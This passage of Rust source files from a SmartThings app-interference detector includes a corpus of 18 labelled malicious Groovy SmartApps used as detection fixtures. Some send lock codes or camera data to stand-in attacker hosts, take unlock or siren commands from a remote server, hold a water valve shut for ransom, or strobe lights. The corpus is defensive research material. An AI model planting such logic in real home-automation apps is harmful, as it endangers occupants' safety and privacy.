        ] {
            assert!(benign_app(name).is_some(), "missing {name}");
        }
    }

    #[test]
    fn web_service_and_special_categories() {
        assert_eq!(
            benign_apps()
                .iter()
                .filter(|a| a.category == Category::WebService)
                .count(),
            4
        );
        assert_eq!(
            benign_apps()
                .iter()
                .filter(|a| a.category == Category::Special)
                .count(),
            3
        );
    }
}
