//! Corpus catalogue types.
//!
//! The paper evaluates on the SmartThings public repository: 182 SmartApps,
//! of which 36 are Web Services apps, 146 define automation, 90 control
//! devices (the Fig. 8 population) and 56 only notify. This corpus recreates
//! that population structurally: every app the paper names appears with
//! functionally identical rule logic, and the remainder follow the public
//! repository's common app patterns.

/// How an app participates in the evaluation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Category {
    /// Defines automation that issues device/mode commands — part of the
    /// Fig. 8 pairwise-detection population.
    DeviceControl,
    /// Defines automation that only sends notifications (excluded from
    /// Fig. 8, included in extraction effectiveness).
    NotificationOnly,
    /// Exposes web endpoints instead of defining automation (excluded from
    /// rule extraction like the paper's 36 Web Services apps).
    WebService,
    /// Uses non-standard device types or undocumented APIs: extraction
    /// fails with the stock configuration and succeeds with
    /// `ExtractorConfig::extended` (paper §VIII-B special cases).
    Special,
}

/// A corpus entry: one SmartApp plus its manually-derived ground truth.
#[derive(Debug, Clone, Copy)]
pub struct CorpusApp {
    /// App name (matches the `definition(name:)` metadata).
    pub name: &'static str,
    /// Groovy source.
    pub source: &'static str,
    /// Evaluation category.
    pub category: Category,
    /// Ground truth: number of rules manual review finds.
    pub expected_rules: usize,
    /// Ground truth: the set of actuation commands the app can issue
    /// (order-insensitive, deduplicated).
    pub expected_commands: &'static [&'static str],
}

impl CorpusApp {
    /// Whether extraction requires the extended configuration.
    pub fn requires_extended(&self) -> bool {
        self.category == Category::Special
    }
}
