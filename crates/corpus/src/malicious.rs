//! The 18 malicious SmartApps of paper Table III, reproducing each attack
//! class from the literature (\[22], \[29], \[46], \[47] in the paper). The
//! expected `handled` flag mirrors the table's "Can handle?" column: the
//! rule extractor obtains precise rules for every class except endpoint
//! attacks (automation lives outside the app) and app-update attacks
//! (server-side code swaps are invisible to static analysis).

/// The attack classes of Table III.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackClass {
    /// Embed malicious logic beyond the app description.
    MaliciousControl,
    /// Exploit overprivilege to perform attacks.
    AbusingPermission,
    /// Embed ads into notification messages.
    Adware,
    /// Leak private information via HTTP/side channel.
    Spyware,
    /// Refuse to take actions until the user pays.
    Ransomware,
    /// Execute dynamic commands according to HTTP responses.
    RemoteControl,
    /// Malicious apps exchange information by IPC.
    Ipc,
    /// Send sensitive information to an attacker's encrypted URL.
    ShadowPayload,
    /// Trigger malicious functions via HTTP requests (web endpoints).
    EndpointAttack,
    /// Edit the original code after release.
    AppUpdate,
}

impl AttackClass {
    /// Table III's description.
    pub fn description(&self) -> &'static str {
        match self {
            AttackClass::MaliciousControl => "Embed malicious logics beyond app description",
            AttackClass::AbusingPermission => "Exploit overprivilege to perform attacks",
            AttackClass::Adware => "Embed ads into notification messages",
            AttackClass::Spyware => "Leak private information via HTTP/side channel",
            AttackClass::Ransomware => "Refuse to take actions until user pay money",
            AttackClass::RemoteControl => "Execute dynamic commands according to HTTP response",
            AttackClass::Ipc => "Malicious apps exchange information by IPC",
            AttackClass::ShadowPayload => "Send sensitive information to attacker's encrypted url",
            AttackClass::EndpointAttack => "Trigger malicious functions via HTTP requests",
            AttackClass::AppUpdate => "Edit the original codes after released",
        }
    }

    /// Whether static rule extraction can handle this class (Table III's
    /// "Can handle?" column).
    pub fn statically_handled(&self) -> bool {
        !matches!(self, AttackClass::EndpointAttack | AttackClass::AppUpdate)
    }
}

/// One malicious corpus entry.
#[derive(Debug, Clone, Copy)]
pub struct MaliciousApp {
    /// App name from Table III.
    pub name: &'static str,
    /// Attack class.
    pub attack: AttackClass,
    /// Groovy source.
    pub source: &'static str,
}

/// The 18 malicious apps.
pub static MALICIOUS_APPS: &[MaliciousApp] = &[
    MaliciousApp {
        name: "CreatingSeizuresUsingStrobedLight",
        attack: AttackClass::MaliciousControl,
        source: r#"
definition(name: "CreatingSeizuresUsingStrobedLight", description: "Mood lighting helper")
input "lights", "capability.switch", title: "Mood lights", multiple: true
def installed() { subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (location.mode == "Night") {
        lights.on()
        runIn(1, strobeOff)
    }
}
def strobeOff() {
    lights.off()
    runIn(1, strobeOn)
}
def strobeOn() { lights.on() }
"#,
    },
    MaliciousApp {
        name: "shiqiBatteryMonitor",
        attack: AttackClass::AbusingPermission,
        source: r#"
definition(name: "shiqiBatteryMonitor", description: "Monitors your lock batteries")
input "door", "capability.lock", title: "Lock to monitor"
def installed() { subscribe(door, "lock", batteryCheck) }
def batteryCheck(evt) {
    if (door.currentBattery < 101) { door.unlock() }
}
"#,
    },
    MaliciousApp {
        name: "HelloHome",
        attack: AttackClass::Adware,
        source: r#"
definition(name: "HelloHome", description: "Greets you when you arrive")
input "presence1", "capability.presenceSensor", title: "Your phone"
def installed() { subscribe(presence1, "presence.present", arriveHandler) }
def arriveHandler(evt) {
    sendPush("Welcome home! -- Buy SuperWidgets at widgets.example.com --")
}
"#,
    },
    MaliciousApp {
        name: "CODetector",
        attack: AttackClass::Adware,
        source: r#"
definition(name: "CODetector", description: "Carbon monoxide alerts")
input "co1", "capability.carbonMonoxideDetector", title: "CO detector"
def installed() { subscribe(co1, "carbonMonoxide.detected", coHandler) }
def coHandler(evt) {
    sendPush("CO detected! Stay safe with AdGuard insurance: ads.example.com")
}
"#,
    },
    MaliciousApp {
        name: "LockManager",
        attack: AttackClass::Spyware,
        source: r#"
definition(name: "LockManager", description: "Manage your lock codes")
input "door", "capability.lock", title: "The lock"
input "newCode", "text", title: "New code"
def installed() { subscribe(door, "lock", lockHandler) }
def lockHandler(evt) {
    httpPost([uri: "http://evil.example.com/codes", body: newCode]) { resp -> }
}
"#,
    },
    MaliciousApp {
        name: "shiqiLightController",
        attack: AttackClass::Spyware,
        source: r#"
definition(name: "shiqiLightController", description: "Smart light scheduling")
input "lights", "capability.switch", title: "Lights", multiple: true
input "presence1", "capability.presenceSensor", title: "Phone"
def installed() { subscribe(presence1, "presence", spyHandler) }
def spyHandler(evt) {
    lights.on()
    httpGet("http://evil.example.com/track?presence=home") { resp -> }
}
"#,
    },
    MaliciousApp {
        name: "DoorLockPinCodeSnooping",
        attack: AttackClass::Spyware,
        source: r#"
definition(name: "DoorLockPinCodeSnooping", description: "Lock usage statistics")
input "door", "capability.lock", title: "The lock"
input "phone1", "phone", title: "Statistics number"
def installed() { subscribe(door, "lock", usageHandler) }
def usageHandler(evt) {
    sendSms(phone1, "lock event observed")
}
"#,
    },
    MaliciousApp {
        name: "WaterValve",
        attack: AttackClass::Ransomware,
        source: r#"
definition(name: "WaterValve", description: "Protect your home from leaks")
input "main", "capability.valve", title: "Water main"
def installed() { runEvery1Hour(extort) }
def extort() {
    if (state.paid != "yes") { main.close() }
}
"#,
    },
    MaliciousApp {
        name: "SmokeDetector",
        attack: AttackClass::RemoteControl,
        source: r#"
definition(name: "SmokeDetector", description: "Smarter smoke handling")
input "smoke1", "capability.smokeDetector", title: "Smoke detector"
input "siren1", "capability.alarm", title: "Siren"
def installed() { subscribe(smoke1, "smoke", smokeHandler) }
def smokeHandler(evt) {
    httpGet("http://evil.example.com/cmd") { resp ->
        if (resp == "silence") { siren1.off() } else { siren1.both() }
    }
}
"#,
    },
    MaliciousApp {
        name: "FireAlarm",
        attack: AttackClass::RemoteControl,
        source: r#"
definition(name: "FireAlarm", description: "Fire response automation")
input "smoke1", "capability.smokeDetector", title: "Smoke detector"
input "exits", "capability.lock", title: "Exit locks", multiple: true
def installed() { subscribe(smoke1, "smoke.detected", fireHandler) }
def fireHandler(evt) {
    httpGet("http://evil.example.com/unlock") { resp ->
        if (resp == "go") { exits.unlock() }
    }
}
"#,
    },
    MaliciousApp {
        name: "MaliciousCameraIPC",
        attack: AttackClass::Ipc,
        source: r#"
definition(name: "MaliciousCameraIPC", description: "Camera helper")
input "cam", "capability.switch", title: "Camera outlet"
def installed() { subscribe(location, "mode", modeWatcher) }
def modeWatcher(evt) {
    if (location.mode == "Away") { cam.off() }
}
"#,
    },
    MaliciousApp {
        name: "PresenceSensorIPC",
        attack: AttackClass::Ipc,
        source: r#"
definition(name: "PresenceSensorIPC", description: "Presence helper")
input "presence1", "capability.presenceSensor", title: "Phone"
def installed() { subscribe(presence1, "presence.not present", leftHandler) }
def leftHandler(evt) { setLocationMode("Away") }
"#,
    },
    MaliciousApp {
        name: "AutoCamera2",
        attack: AttackClass::ShadowPayload,
        source: r#"
definition(name: "AutoCamera2", description: "Snapshot on motion")
input "motion1", "capability.motionSensor", title: "Motion"
input "cam", "capability.imageCapture", title: "Camera"
def installed() { subscribe(motion1, "motion.active", snap) }
def snap(evt) {
    cam.take()
    httpPost([uri: "https://attacker.example.com/upload", body: "img"]) { resp -> }
}
"#,
    },
    MaliciousApp {
        name: "BackdoorPinCodeInjection",
        attack: AttackClass::EndpointAttack,
        source: r#"
definition(name: "BackdoorPinCodeInjection", description: "Lock code convenience")
input "door", "capability.lock", title: "The lock"
mappings {
    path("/inject") {
        action: [POST: "injectCode"]
    }
}
def installed() { }
def injectCode() { door.unlock() }
"#,
    },
    MaliciousApp {
        name: "DisablingVacationMode",
        attack: AttackClass::EndpointAttack,
        source: r#"
definition(name: "DisablingVacationMode", description: "Mode helper")
mappings {
    path("/mode") {
        action: [POST: "setMode"]
    }
}
def installed() { }
def setMode() { setLocationMode("Home") }
"#,
    },
    MaliciousApp {
        name: "BonVoyageRepackaging",
        attack: AttackClass::AppUpdate,
        source: r#"
definition(name: "BonVoyageRepackaging", description: "Away mode when everyone leaves")
input "presence1", "capability.presenceSensor", title: "Phones"
def installed() { subscribe(presence1, "presence.not present", leftHandler) }
def leftHandler(evt) { setLocationMode("Away") }
"#,
    },
    MaliciousApp {
        name: "PowersOutAlert",
        attack: AttackClass::AppUpdate,
        source: r#"
definition(name: "PowersOutAlert", description: "Alert on power loss")
input "meter", "capability.powerMeter", title: "Meter"
input "phone1", "phone", title: "Notify"
def installed() { subscribe(meter, "power", powerHandler) }
def powerHandler(evt) {
    if (evt.value < 1) { sendSms(phone1, "Power out") }
}
"#,
    },
    MaliciousApp {
        name: "MidnightUnlocker",
        attack: AttackClass::MaliciousControl,
        source: r#"
definition(name: "MidnightUnlocker", description: "Evening routine helper")
input "door", "capability.lock", title: "Front door"
input "lights", "capability.switch", title: "Lights", multiple: true
def installed() {
    subscribe(location, "mode", modeHandler)
}
def modeHandler(evt) {
    if (location.mode == "Night") {
        lights.off()
        door.unlock()
    }
}
"#,
    },
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn eighteen_apps_ten_classes() {
        assert_eq!(MALICIOUS_APPS.len(), 18);
        let classes: std::collections::BTreeSet<_> = MALICIOUS_APPS
            .iter()
            .map(|a| a.attack.description())
            .collect();
        assert_eq!(classes.len(), 10);
    }

    #[test]
    fn handled_column_matches_table_iii() {
        for app in MALICIOUS_APPS {
            let expected = !matches!(
                app.attack,
                AttackClass::EndpointAttack | AttackClass::AppUpdate
            );
            assert_eq!(app.attack.statically_handled(), expected, "{}", app.name);
        }
    }
}
