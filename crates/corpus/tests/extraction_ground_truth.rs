//! Extraction effectiveness over the whole corpus (paper §VIII-B):
//! every benign app must parse, and extraction must match the manually
//! derived ground truth, with the three special cases failing under the
//! stock configuration and passing under the extended one.

use hg_corpus::{automation_apps, benign_apps, Category, MALICIOUS_APPS};
use hg_symexec::{extract, ExtractorConfig};
use std::collections::BTreeSet;

#[test]
fn every_corpus_app_parses() {
    for app in benign_apps() {
        hg_lang::parse(app.source).unwrap_or_else(|e| panic!("{} does not parse: {e}", app.name));
    }
    for app in MALICIOUS_APPS {
        hg_lang::parse(app.source).unwrap_or_else(|e| panic!("{} does not parse: {e}", app.name));
    }
}

#[test]
fn extraction_matches_ground_truth() {
    let config = ExtractorConfig::extended();
    let mut failures = Vec::new();
    for app in automation_apps() {
        let analysis = match extract(app.source, app.name, &config) {
            Ok(a) => a,
            Err(e) => {
                failures.push(format!("{}: extraction error {e}", app.name));
                continue;
            }
        };
        if analysis.rules.len() != app.expected_rules {
            failures.push(format!(
                "{}: expected {} rules, extracted {} ({:?})",
                app.name,
                app.expected_rules,
                analysis.rules.len(),
                analysis
                    .rules
                    .iter()
                    .map(|r| r.id.to_string())
                    .collect::<Vec<_>>(),
            ));
        }
        let extracted: BTreeSet<&str> = analysis
            .rules
            .iter()
            .flat_map(|r| r.actuations())
            .map(|a| a.command.as_str())
            .collect();
        let expected: BTreeSet<&str> = app.expected_commands.iter().copied().collect();
        if extracted != expected {
            failures.push(format!(
                "{}: expected commands {expected:?}, extracted {extracted:?}",
                app.name
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "ground-truth mismatches:\n{}",
        failures.join("\n")
    );
}

#[test]
fn stock_config_fails_exactly_on_special_cases() {
    let stock = ExtractorConfig::default();
    let mut failed: Vec<&str> = Vec::new();
    for app in automation_apps() {
        if extract(app.source, app.name, &stock).is_err() {
            failed.push(app.name);
        }
    }
    failed.sort_unstable();
    // The paper: 124/146 extracted initially; the failures were Feed My Pet,
    // Sleepy Time and Camera Power Scheduler.
    assert_eq!(
        failed,
        vec!["CameraPowerScheduler", "FeedMyPet", "SleepyTime"],
        "stock-config failures diverge from §VIII-B"
    );
}

#[test]
fn web_service_apps_define_no_automation() {
    let config = ExtractorConfig::extended();
    for app in benign_apps() {
        if app.category != Category::WebService {
            continue;
        }
        let analysis = extract(app.source, app.name, &config).unwrap();
        assert!(
            analysis.is_web_service,
            "{} not flagged as web service",
            app.name
        );
        assert_eq!(
            analysis.rules.len(),
            0,
            "{} unexpectedly has rules",
            app.name
        );
    }
}

#[test]
fn malicious_extraction_matches_table_iii() {
    let config = ExtractorConfig::extended();
    for app in MALICIOUS_APPS {
        let analysis =
            extract(app.source, app.name, &config).unwrap_or_else(|e| panic!("{}: {e}", app.name));
        let statically_visible = !analysis.is_web_service && !analysis.rules.is_empty();
        if app.attack.statically_handled() {
            assert!(
                statically_visible,
                "{} ({:?}) should yield rules, got {} rules (web={})",
                app.name,
                app.attack,
                analysis.rules.len(),
                analysis.is_web_service,
            );
        } else if app.attack == hg_corpus::AttackClass::EndpointAttack {
            assert!(
                analysis.is_web_service,
                "{} should be classified as a web-service app",
                app.name
            );
        }
        // App-update attacks extract fine (the pre-update code is benign);
        // the inability to handle them is about the platform, not the
        // extractor — asserted in the Table III harness.
    }
}

#[test]
fn device_control_population_matches_fig8_setup() {
    // Fig. 8's population: device-controlling apps only; notification-only
    // apps are excluded the way the paper excludes its 56.
    let config = ExtractorConfig::extended();
    for app in hg_corpus::device_control_apps() {
        let analysis = extract(app.source, app.name, &config).unwrap();
        assert!(
            analysis.controls_devices(),
            "{} is in the Fig. 8 population but controls no devices",
            app.name
        );
    }
    for app in benign_apps() {
        if app.category == Category::NotificationOnly {
            let analysis = extract(app.source, app.name, &config).unwrap();
            assert!(
                !analysis.controls_devices(),
                "{} claims notification-only but controls devices",
                app.name
            );
        }
    }
}
