//! The installation workflow (paper Fig. 6 and §VI-D).
//!
//! Whenever a new app is installed (or reconfigured), HomeGuard:
//!
//! 1. collects the configuration information ([`hg_config::ConfigInfo`]);
//! 2. fetches the app's rules from the extractor service;
//! 3. runs pairwise detection against every already-installed rule;
//! 4. extends the detection through the *Allowed* list to find chained
//!    (indirect) interference;
//! 5. presents the findings and records the user's verdict — installing
//!    anyway moves the pairwise findings onto the Allowed list so future
//!    installs can chain through them.

use crate::extractor_service::ExtractorService;
use hg_config::ConfigInfo;
use hg_detector::{find_chains, Chain, Detector, DetectStats, Edge, Threat, Unification};
use hg_rules::rule::Rule;
use hg_rules::value::Value;
use std::collections::BTreeMap;

/// The per-home HomeGuard state: recorders plus the detector.
pub struct HomeGuard {
    /// The backend extractor service (rule database).
    pub extractor: ExtractorService,
    /// Rules of every installed app (rule recorder).
    installed: Vec<Rule>,
    /// Configuration recorder: device bindings per (app, input).
    bindings: BTreeMap<(String, String), String>,
    /// Configuration recorder: user values per (app, input).
    values: BTreeMap<(String, String), Value>,
    /// Pairwise interferences the user accepted (the Allowed list, §VI-D).
    allowed: Vec<Threat>,
    /// The home's location modes.
    pub modes: Vec<String>,
}

/// The outcome of an installation attempt, shown to the user by the
/// frontend before they decide.
#[derive(Debug, Clone)]
pub struct InstallReport {
    /// The app under installation.
    pub app: String,
    /// Its rules, for the frontend's rule interpreter.
    pub rules: Vec<Rule>,
    /// Direct (pairwise) threats against installed apps.
    pub threats: Vec<Threat>,
    /// Chained threats through the Allowed list.
    pub chains: Vec<Chain>,
    /// Detection effort counters.
    pub stats: DetectStats,
}

impl InstallReport {
    /// Whether the installation is clean.
    pub fn is_clean(&self) -> bool {
        self.threats.is_empty() && self.chains.is_empty()
    }
}

impl Default for HomeGuard {
    fn default() -> Self {
        HomeGuard::new()
    }
}

impl HomeGuard {
    /// A fresh HomeGuard instance with an empty home.
    pub fn new() -> HomeGuard {
        HomeGuard {
            extractor: ExtractorService::new(),
            installed: Vec::new(),
            bindings: BTreeMap::new(),
            values: BTreeMap::new(),
            allowed: Vec::new(),
            modes: vec!["Home".into(), "Away".into(), "Night".into()],
        }
    }

    /// Records collected configuration information (what the instrumented
    /// app's URI delivers).
    pub fn record_config(&mut self, info: &ConfigInfo) {
        for (input, id) in &info.devices {
            self.bindings.insert((info.app.clone(), input.clone()), id.clone());
        }
        for (input, value) in &info.values {
            self.values.insert((info.app.clone(), input.clone()), value.clone());
        }
    }

    /// The detector configured with the current recorders.
    fn detector(&self) -> Detector {
        let mut det = Detector {
            unification: if self.bindings.is_empty() {
                Unification::ByType
            } else {
                Unification::Bindings(self.bindings.clone())
            },
            ..Detector::default()
        };
        det.solver.modes = self.modes.clone();
        det.solver.user_values = self.values.clone();
        det
    }

    /// Checks a new app (already ingested into the extractor service, with
    /// configuration recorded) against the installed apps. Does **not**
    /// install it — the user decides based on the report.
    pub fn check_install(&self, app: &str) -> InstallReport {
        let rules = self.extractor.rules_of(app).unwrap_or_default();
        let detector = self.detector();
        let mut threats = Vec::new();
        let mut stats = DetectStats::default();
        for new_rule in &rules {
            for old_rule in &self.installed {
                let (t, s) = detector.detect_pair(new_rule, old_rule);
                threats.extend(t);
                stats.absorb(s);
            }
        }
        // Chained detection through the Allowed list (§VI-D): edges from the
        // new findings plus the user-allowed historical pairs.
        let mut edges = Edge::from_threats(&threats);
        edges.extend(Edge::from_threats(&self.allowed));
        let chains = find_chains(&edges, 4)
            .into_iter()
            .filter(|c| c.rules.iter().any(|r| r.app == app))
            .collect();
        InstallReport { app: app.to_string(), rules, threats, chains, stats }
    }

    /// The user decided to install despite the report: rules are recorded
    /// and the reported pairwise threats move to the Allowed list.
    pub fn confirm_install(&mut self, report: InstallReport) {
        self.installed.extend(report.rules);
        self.allowed.extend(report.threats);
    }

    /// Convenience: ingest + record config + check + confirm in one step,
    /// returning the report (most callers want automatic confirmation for
    /// scripted experiments).
    ///
    /// # Errors
    ///
    /// Propagates extraction failures.
    pub fn install_app(
        &mut self,
        source: &str,
        name: &str,
        config: Option<&ConfigInfo>,
    ) -> Result<InstallReport, hg_symexec::ExtractError> {
        let analysis = self.extractor.ingest(source, name)?;
        let app_name = analysis.name.clone();
        if let Some(info) = config {
            self.record_config(info);
        }
        let report = self.check_install(&app_name);
        self.confirm_install(report.clone());
        Ok(report)
    }

    /// All installed rules.
    pub fn installed_rules(&self) -> &[Rule] {
        &self.installed
    }

    /// The Allowed list.
    pub fn allowed(&self) -> &[Threat] {
        &self.allowed
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_detector::ThreatKind;

    const ON_APP: &str = r#"
definition(name: "OnApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.on() }
"#;

    const OFF_APP: &str = r#"
definition(name: "OffApp")
input "m", "capability.motionSensor"
input "lamp", "capability.switch", title: "lamp"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { lamp.off() }
"#;

    #[test]
    fn first_install_is_clean() {
        let mut hg = HomeGuard::new();
        let report = hg.install_app(ON_APP, "OnApp", None).unwrap();
        assert!(report.is_clean());
        assert_eq!(hg.installed_rules().len(), 1);
    }

    #[test]
    fn second_install_detects_race() {
        let mut hg = HomeGuard::new();
        hg.install_app(ON_APP, "OnApp", None).unwrap();
        let report = hg.install_app(OFF_APP, "OffApp", None).unwrap();
        assert!(!report.is_clean());
        assert!(report.threats.iter().any(|t| t.kind == ThreatKind::ActuatorRace));
        // Installing anyway recorded the threat on the Allowed list.
        assert!(!hg.allowed().is_empty());
    }

    #[test]
    fn config_bindings_change_verdict() {
        let mut hg = HomeGuard::new();
        let cfg_a = ConfigInfo::new("OnApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-1");
        hg.install_app(ON_APP, "OnApp", Some(&cfg_a)).unwrap();
        // OffApp bound to a DIFFERENT lamp: no race.
        let cfg_b = ConfigInfo::new("OffApp")
            .bind_device("m", "motion-1")
            .bind_device("lamp", "lamp-2");
        let report = hg.install_app(OFF_APP, "OffApp", Some(&cfg_b)).unwrap();
        assert!(
            !report.threats.iter().any(|t| t.kind == ThreatKind::ActuatorRace),
            "{:#?}",
            report.threats
        );
    }

    #[test]
    fn chained_detection_through_allowed_list() {
        // App1: motion -> switch on. App2: switch on -> mode Home.
        // App3: mode change -> unlock door. Installing all three must
        // surface the 3-rule covert chain at App3's install.
        let app1 = r#"
definition(name: "MotionSwitch")
input "m", "capability.motionSensor"
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(m, "motion.active", h) }
def h(evt) { sw.on() }
"#;
        let app2 = r#"
definition(name: "SwitchMode")
input "sw", "capability.switch", title: "hall switch"
def installed() { subscribe(sw, "switch.on", h) }
def h(evt) { setLocationMode("Home") }
"#;
        let app3 = r#"
definition(name: "ModeUnlock")
input "door", "capability.lock", title: "front door"
def installed() { subscribe(location, "mode", h) }
def h(evt) { if (location.mode == "Home") { door.unlock() } }
"#;
        let mut hg = HomeGuard::new();
        hg.install_app(app1, "MotionSwitch", None).unwrap();
        hg.install_app(app2, "SwitchMode", None).unwrap();
        let report = hg.install_app(app3, "ModeUnlock", None).unwrap();
        assert!(
            !report.chains.is_empty(),
            "expected a covert chain, threats: {:#?}",
            report.threats
        );
        let chain = &report.chains[0];
        assert!(chain.rules.len() >= 3, "{chain}");
    }
}
