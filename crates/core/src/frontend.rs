//! The HOMEGUARD frontend: rule and threat interpreters (paper Fig. 6,
//! Fig. 7b).
//!
//! Rules and detected threats are translated into a human-readable form so
//! the homeowner can check that an app behaves as it claims and make an
//! informed keep/delete/reconfigure decision.

use crate::home::InstallReport;
use hg_rules::rule::{ActionSubject, Rule, Trigger};
use hg_rules::varid::DeviceRef;
use hg_solver::Assignment;
use std::fmt::Write as _;

/// Renders one rule the way the phone app's rule interpreter does
/// ("when ... if ... then ...").
pub fn interpret_rule(rule: &Rule) -> String {
    let mut out = String::new();
    match &rule.trigger {
        Trigger::DeviceEvent {
            subject,
            attribute,
            constraint,
        } => {
            let _ = write!(out, "WHEN {} reports `{attribute}`", device_name(subject));
            if let Some(c) = constraint {
                let _ = write!(out, " with {c}");
            }
        }
        Trigger::ModeChange { constraint } => {
            let _ = write!(out, "WHEN the home mode changes");
            if let Some(c) = constraint {
                let _ = write!(out, " with {c}");
            }
        }
        Trigger::TimeOfDay { description, .. } => {
            let _ = write!(out, "AT {description}");
        }
        Trigger::Periodic { period_secs } => {
            let _ = write!(out, "EVERY {}", human_duration(*period_secs));
        }
        Trigger::AppTouch => {
            let _ = write!(out, "WHEN the app button is tapped");
        }
    }
    if rule.condition.predicate != hg_rules::constraint::Formula::True {
        let _ = write!(out, "\n  IF {}", rule.condition.predicate);
    }
    for action in &rule.actions {
        let target = match &action.subject {
            ActionSubject::Device(d) => device_name(d),
            ActionSubject::LocationMode => "the home mode".to_string(),
            ActionSubject::Message { target } => {
                format!("a message to {}", target.as_deref().unwrap_or("the user"))
            }
            ActionSubject::Http { method, url } => {
                format!(
                    "an HTTP {method} to {}",
                    url.as_deref().unwrap_or("a server")
                )
            }
            ActionSubject::HubCommand => "a hub command".to_string(),
        };
        let _ = write!(out, "\n  THEN `{}` on {target}", action.command);
        if action.when_secs > 0 {
            let _ = write!(out, " after {}", human_duration(action.when_secs));
        }
        if action.period_secs > 0 {
            let _ = write!(out, " every {}", human_duration(action.period_secs));
        }
    }
    out
}

/// Renders a witness assignment as the "certain situation" the paper's UI
/// shows ("this happens when temperature = 31 and mode = Night").
pub fn interpret_witness(witness: &Assignment) -> String {
    let shown: Vec<String> = witness
        .iter()
        .filter(|(var, _)| var.is_shared_world())
        .map(|(var, value)| format!("{var} = {value}"))
        .collect();
    if shown.is_empty() {
        "in any situation".to_string()
    } else {
        format!("when {}", shown.join(" and "))
    }
}

/// Renders a full installation report: the screen the user decides from
/// (Fig. 7b).
pub fn interpret_report(report: &InstallReport) -> String {
    let mut out = String::new();
    let verb = if report.is_upgrade() {
        "Upgrading"
    } else {
        "Installing"
    };
    let _ = writeln!(
        out,
        "{verb} `{}` — {} rule(s):",
        report.app,
        report.rules.len()
    );
    for rule in &report.rules {
        for line in interpret_rule(rule).lines() {
            let _ = writeln!(out, "  {line}");
        }
    }
    if !report.dropped_ranks.is_empty() {
        let ranks: Vec<String> = report.dropped_ranks.iter().map(|r| r.to_string()).collect();
        let _ = writeln!(
            out,
            "\n⚠ Priority rank(s) for {} did not survive the upgrade — please re-rank.",
            ranks.join(", ")
        );
    }
    if report.is_clean() {
        let _ = writeln!(out, "No cross-app interference detected.");
        return out;
    }
    let _ = writeln!(
        out,
        "\n⚠ {} potential interference(s):",
        report.threats.len()
    );
    for threat in &report.threats {
        let _ = writeln!(out, "  [{}] {}", threat.kind.acronym(), threat.note);
        if let Some(w) = &threat.witness {
            let _ = writeln!(out, "      occurs {}", interpret_witness(w));
        }
    }
    if !report.chains.is_empty() {
        let _ = writeln!(out, "\n⚠ {} covert rule chain(s):", report.chains.len());
        for chain in &report.chains {
            let _ = writeln!(out, "  {chain}");
        }
    }
    let _ = writeln!(
        out,
        "\nKeep the app, delete it, or change its configuration?"
    );
    out
}

fn device_name(d: &DeviceRef) -> String {
    match d {
        DeviceRef::Bound { device_id } => match device_id.strip_prefix("type:") {
            Some(t) => format!("the {t} device"),
            None => format!("device {device_id}"),
        },
        DeviceRef::Unbound { input, .. } => format!("`{input}`"),
    }
}

fn human_duration(secs: u64) -> String {
    if secs.is_multiple_of(3600) && secs >= 3600 {
        format!("{} hour(s)", secs / 3600)
    } else if secs.is_multiple_of(60) && secs >= 60 {
        format!("{} minute(s)", secs / 60)
    } else {
        format!("{secs} second(s)")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hg_rules::constraint::{CmpOp, Formula, Term};
    use hg_rules::rule::{Action, Condition, RuleId};
    use hg_rules::value::Value;
    use hg_rules::varid::VarId;

    fn sample_rule() -> Rule {
        let tv = DeviceRef::Unbound {
            app: "ComfortTV".into(),
            input: "tv1".into(),
            capability: "switch".into(),
            kind: hg_capability::device_kind::DeviceKind::Tv,
        };
        let window = DeviceRef::Unbound {
            app: "ComfortTV".into(),
            input: "window1".into(),
            capability: "switch".into(),
            kind: hg_capability::device_kind::DeviceKind::WindowOpener,
        };
        Rule {
            id: RuleId::new("ComfortTV", 0),
            trigger: Trigger::DeviceEvent {
                subject: tv.clone(),
                attribute: "switch".into(),
                constraint: Some(Formula::var_eq(
                    VarId::device_attr(tv, "switch"),
                    Value::sym("on"),
                )),
            },
            condition: Condition {
                data_constraints: vec![],
                predicate: Formula::cmp(
                    Term::var(VarId::env("temperature")),
                    CmpOp::Gt,
                    Term::num(3000),
                ),
            },
            actions: vec![Action::device(window, "on").after(120)],
        }
    }

    #[test]
    fn rule_interpretation_is_readable() {
        let text = interpret_rule(&sample_rule());
        assert!(text.contains("WHEN `tv1` reports `switch`"), "{text}");
        assert!(text.contains("IF env.temperature > 30"), "{text}");
        assert!(text.contains("THEN `on` on `window1`"), "{text}");
        assert!(text.contains("after 2 minute(s)"), "{text}");
    }

    #[test]
    fn witness_interpretation_filters_private_vars() {
        let mut w = Assignment::new();
        w.insert(VarId::env("temperature"), Value::Num(3100));
        w.insert(
            VarId::Opaque {
                app: "A".into(),
                name: "x1".into(),
            },
            Value::sym("whatever"),
        );
        let text = interpret_witness(&w);
        assert!(text.contains("env.temperature = 31"), "{text}");
        assert!(!text.contains("whatever"), "{text}");
    }

    #[test]
    fn human_durations() {
        assert_eq!(human_duration(45), "45 second(s)");
        assert_eq!(human_duration(300), "5 minute(s)");
        assert_eq!(human_duration(7200), "2 hour(s)");
    }

    #[test]
    fn clean_report_text() {
        let report = InstallReport {
            app: "Mini".into(),
            rules: vec![sample_rule()],
            threats: vec![],
            chains: vec![],
            stats: Default::default(),
            installed: false,
            config: None,
            replaces: None,
            dropped_ranks: vec![],
        };
        let text = interpret_report(&report);
        assert!(
            text.contains("No cross-app interference detected"),
            "{text}"
        );
        assert!(text.starts_with("Installing"), "{text}");
    }

    #[test]
    fn upgrade_report_text() {
        let report = InstallReport {
            app: "Mini".into(),
            rules: vec![sample_rule()],
            threats: vec![],
            chains: vec![],
            stats: Default::default(),
            installed: false,
            config: None,
            replaces: Some("Mini".into()),
            dropped_ranks: vec![RuleId::new("Mini", 3)],
        };
        let text = interpret_report(&report);
        assert!(text.starts_with("Upgrading"), "{text}");
        assert!(text.contains("please re-rank"), "{text}");
